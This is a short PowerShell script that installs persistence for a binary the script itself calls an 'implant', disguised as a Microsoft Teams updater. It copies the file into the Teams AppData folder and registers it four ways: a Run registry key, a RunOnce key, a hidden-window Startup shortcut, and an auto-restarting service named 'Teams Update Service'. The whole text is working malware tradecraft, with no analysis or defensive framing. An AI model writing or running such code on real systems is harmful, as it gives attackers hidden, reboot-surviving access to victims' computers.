$implant = "$env:APPDATA\Microsoft\Teams\update.exe"
Copy-Item -Path "$PSScriptRoot\u.exe" -Destination $implant -Force

# 1. Run key via the registry provider
Set-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'TeamsUpdate' -Value $implant

# 2. RunOnce via reg.exe as a fallback
reg add HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\RunOnce /v Updater /t REG_SZ /d $implant /f

# 3. Startup folder shortcut
$startup = [Environment]::GetFolderPath('Startup')
$shell = New-Object -ComObject WScript.Shell
$lnk = $shell.CreateShortcut((Join-Path $startup 'Teams.lnk'))
$lnk.TargetPath = $implant
$lnk.WindowStyle = 7
$lnk.Save()

# 4. a service, for SYSTEM
New-Service -Name 'TeamsUpdateSvc' -BinaryPathName "`"$implant`" -svc" -StartupType Automatic -DisplayName 'Teams Update Service'
sc.exe failure TeamsUpdateSvc reset= 0 actions= restart/60000
